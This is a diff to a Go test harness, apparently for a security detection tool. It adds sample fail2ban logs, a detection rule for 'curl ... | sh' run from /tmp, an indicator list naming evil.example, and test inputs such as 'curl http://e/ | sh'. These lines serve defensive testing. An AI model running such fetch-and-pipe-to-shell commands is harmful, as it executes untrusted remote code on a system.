@@ -3,10 +3,13 @@ package main
 import (
 	"encoding/binary"
 	"fmt"
+	"io"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"strings"
+
+	"lagan/findings"
 )
 
 const criLog = `2026-01-02T03:04:05.123456789Z stdout P part one
@@ -98,6 +101,47 @@ Requested-By: ubuntu (1000)
 Install: nmap:amd64 (7.93), libpcap0.8:amd64 (1.10, automatic)
 End-Date: 2026-01-02  03:04:09
 `
+
+const banLog = `2026-01-02 03:04:05,123 fail2ban.filter         [812]: INFO    [sshd] Found 192.0.2.7 - 2026-01-02 03:04:05
+2026-01-02 03:04:06,001 fail2ban.actions        [812]: NOTICE  [sshd] Ban 192.0.2.7
+2026-01-02 03:14:06,001 fail2ban.actions        [812]: NOTICE  [sshd] Unban 2001:db8::1
+`
+
+const ruleFile = `title: A shell
+id: 0f06a3a5-6a09-413f-8743-e6cf35561297
+level: high
+tags: [attack.execution, attack.t1059.004]
+logsource: {product: lagan, category: command}
+detection:
+  shell:
+    command|contains|all: [curl, "| sh"]
+    path|re: '^/(tmp|dev/shm)/[a-z]{1,8}$'
+  not_root: {user|startswith: ["u", "v"]}
+  condition: shell and not 1 of not_*
+`
+
+const indicatorList = "203.0.113.80\n198.51.100.0/24\nevil[.]example\nhxxp://evil.example/x\n/tmp/.x\n44d88612fea8a8f36de82e1278abb02f # eicar\n"
+
+func readRules(m *mutant, told func(error)) {
+	s := &findings.Set{}
+	told(s.Load("rules.yml", m.bytes()))
+	for _, kind := range []string{findings.KindFile, findings.KindCommand, findings.KindLog, findings.KindContainer} {
+		sub := findings.NewSubject(kind)
+		sub.Set("path", "/tmp/abcdef")
+		sub.Set("command", "curl http://e/ | sh")
+		s.Match(sub)
+	}
+}
+
+func readIndicators(m *mutant, told func(error)) {
+	list, err := findings.ReadIndicators(io.NewSectionReader(m, 0, m.Size()))
+	if err != nil {
+		told(err)
+		return
+	}
+	list.Text("curl http://a.evil.example/ from 203.0.113.80")
+	list.Path("/tmp/.x")
+}
 
 // localLog is a log of Docker's local driver: entry.proto between two lengths.
 func localLog() string {
